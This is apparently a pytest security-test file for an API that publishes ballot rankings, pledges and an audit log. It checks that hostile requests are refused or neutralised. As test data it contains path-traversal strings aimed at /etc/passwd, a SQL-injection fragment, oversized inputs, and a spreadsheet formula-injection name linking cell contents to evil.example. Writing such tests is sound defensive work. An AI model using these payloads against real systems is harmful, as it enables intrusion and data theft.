"""Attempts on the API: each is refused in a sentence, is answered as a plain request, or changes nothing."""

import csv
import io
import time
from datetime import date

import pytest

from access import tokens
from data.store import Store
from data.store.audit_log import read_log
from tests.api.conftest import Reader
from tests.api.test_door import refused
from tests.support.stores import SMALL

HUGE = "9" * 5000


def test_a_token_counts_in_its_header_alone(town_reader):
    """In an address it would be kept by browsers, proxies and logs."""
    town_reader.get("/rounds")
    secret = town_reader.secrets["publisher"]
    for path in (f"/rounds?token={secret}", f"/rounds?access_token={secret}", f"/rounds?authorization=Bearer+{secret}"):
        assert refused(town_reader.get(path, role=None), 401) == "token_missing"
    for header in ({"cookie": f"biaochi_session={secret}"}, {"x-api-key": secret}, {"authorization": secret}):
        assert refused(town_reader.get("/rounds", role=None, **header), 401) == "token_missing"
    assert secret not in "".join(entry.line().decode() for entry in read_log(town_reader.store.path))
    assert secret not in "".join(path.read_text() for path in town_reader.accounts.glob("*.json"))


@pytest.mark.parametrize(
    "code",
    [
        "..%2F..%2F..%2Fetc%2Fpasswd",
        "%2e%2e%2faccounts.json",
        "..",
        "a%00b",
        "*",
        "'%20OR%201=1",
        "x" * 5000,
        "%F0%9F%92%A9",
    ],
)
def test_the_code_of_a_unit_is_no_path_and_no_query(code, town_reader):
    began = time.thread_time()
    answer = town_reader.get(f"/units/{code}")
    assert refused(answer, 404) in ("unit", "address") and "root:" not in answer.text
    assert time.thread_time() - began < 2 and len(answer.content) < 20_000


@pytest.mark.parametrize(
    "query",
    [
        *(f"/bottom?round=2025&k={HUGE}", f"/bottom?round=2025&k=00000001{HUGE}", "/bottom?round=2025&k=１"),
        *(
            "/pledges?round=2025&as_of=２０２５-０１-０１",
            "/pledges?round=2025&as_of=20250101T00",
            "/log?since=9999-99-99",
        ),
        *("/ranking?round=2025&format=CSV", "/ranking?round=2025&lang=xx", "/measures/pledge?period=99999Q9"),
    ],
)
def test_what_is_no_number_day_or_choice_is_refused_before_anything_is_computed(query, town_reader):
    assert refused(town_reader.get(query, role="auditor" if "/log" in query else "publisher"), 400) == "parameter"


def test_huge_and_odd_headers_are_plain_requests(town_reader):
    plain = town_reader.get("/ranking?round=2025")
    for known in ('"x",' * 100_000, "W/" * 50_000, ", " * 100_000, "\x7f"):
        began = time.thread_time()
        assert town_reader.get("/ranking?round=2025", **{"if-none-match": known}).content == plain.content
        assert time.thread_time() - began < 3
    odd = town_reader.get("/ranking?round=2025", **{"x-http-method-override": "DELETE", "range": "bytes=0-1"})
    assert odd.content == plain.content


@pytest.mark.parametrize("method", ["OPTIONS", "TRACE", "PROPFIND", "POST"])
def test_no_other_method_is_answered_and_nobody_learns_more_from_it(method, town_reader):
    for path in ("/ranking?round=2025", "/units/none", "/openapi.json", "/nothing"):
        assert refused(town_reader.get(path, method=method), 405) == "method"
        assert refused(town_reader.get(path, method=method, role=None), 401) == "token_missing"


def test_a_name_that_is_a_formula_is_text_in_a_spreadsheet(store_path, tmp_path):
    """Whoever may name a unit would else run a program on the machine of whoever opens the file."""
    store, name = Store(store_path, threads=1), '=HYPERLINK("http://evil.example"&A1;"点这里")'.replace(",", "")
    store.add_rules(SMALL)
    lines = ["票号,评议主体,参评单位,评价"]
    for ballot in range(1, 13):
        for unit in (f'"{name.replace(chr(34), chr(34) * 2)}"', "@SUM(1+1)", "+甲局", "乙局"):
            lines.append(f"{ballot},普通群众,{unit},{'满意' if ballot % 3 else '不满意'}")
    files = [("票.csv", "\n".join(lines).encode())]
    done = store.import_files("ballots", files, "2025")
    if done.stored:
        store.publish()
        reader = Reader(store_path, tmp_path / "accounts")
        text = reader.get("/ranking?round=2025&format=csv").content.decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert cells and not [cell for cell in cells if cell[:1] in "=@+\t" and cell[1:2] and not cell[1:2].isdigit()]
        reader.close()
    else:
        assert done.problems


def test_a_token_of_a_role_that_ends_today_lives_today_and_reads_no_more_tomorrow(town_reader):
    day = date(2026, 1, 1)
    token, _secret = tokens.add_token(town_reader.accounts, "lastday", "viewer", day, today=day)
    assert token.lives(day) and not token.lives(date(2026, 1, 2))
    with pytest.raises(Exception, match="ends between"):
        tokens.add_token(town_reader.accounts, "forever", "viewer", date(2099, 1, 1), today=day)


def test_an_unknown_token_is_not_logged_so_that_a_scanner_does_not_fill_the_log(town_reader):
    before = len(read_log(town_reader.store.path))
    for number in range(20):
        answer = town_reader.get("/rounds", role=None, authorization=f"Bearer biaochi_{number:043d}")
        assert refused(answer, 401) == "token_unknown"
    assert len(read_log(town_reader.store.path)) == before
